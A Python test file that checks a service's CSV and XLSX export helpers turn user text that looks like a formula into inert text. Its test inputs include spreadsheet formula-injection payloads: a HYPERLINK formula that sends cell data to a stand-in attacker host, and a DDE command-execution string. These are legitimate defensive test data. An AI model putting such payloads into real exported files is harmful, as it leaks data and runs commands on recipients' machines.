"""The one export helper: whatever a person typed, nothing the service exports runs as a
formula in a spreadsheet."""

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from safeguarding.exports import csv_bytes, neutralise, workbook_bytes, xlsx_bytes, xlsx_put

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_cells_that_look_like_formulas_are_text(text):
    content, count = csv_bytes(["Heading"], [[text], ["plain"]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8"))))
    assert count == 2
    assert rows[1] == ["'" + text]
    assert rows[2] == ["plain"]


def test_dates_and_numbers_are_themselves():
    assert neutralise(date(2025, 3, 12)) == date(2025, 3, 12)
    assert neutralise(-3) == -3
    assert neutralise(None) == ""


def test_xlsx_text_is_never_a_formula_even_when_it_looks_like_one():
    workbook = Workbook()
    sheet = workbook.active
    for row, text in enumerate(DANGEROUS, start=1):
        xlsx_put(sheet, row, 1, text)
    xlsx_put(sheet, len(DANGEROUS) + 1, 1, date(2025, 3, 12))
    xlsx_put(sheet, len(DANGEROUS) + 2, 1, "Bell\x07 and NUL\x00 removed")
    content = workbook_bytes(workbook)

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    read = load_workbook(io.BytesIO(content))  # not read-only: styles too
    cells = [read.active.cell(row=r, column=1) for r in range(1, len(DANGEROUS) + 3)]
    for cell, text in zip(cells, DANGEROUS, strict=False):
        assert cell.data_type == "s"
        assert cell.value == text  # shown as typed...
        assert cell.quotePrefix  # ...and kept as text if someone edits the cell
    assert cells[-2].value.date() == date(2025, 3, 12)
    assert cells[-1].value == "Bell and NUL removed"


def test_a_streamed_xlsx_follows_the_same_rule():
    rows = [[text, 7, date(2025, 3, 12)] for text in DANGEROUS]
    content, count = xlsx_bytes([("Exported", ["What", "Number", "Date"], rows)])
    assert count == len(DANGEROUS)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(content)).active
    for row, text in enumerate(DANGEROUS, start=2):
        cell = sheet.cell(row=row, column=1)
        assert cell.value == text and cell.data_type == "s" and cell.quotePrefix
        assert sheet.cell(row=row, column=2).value == 7
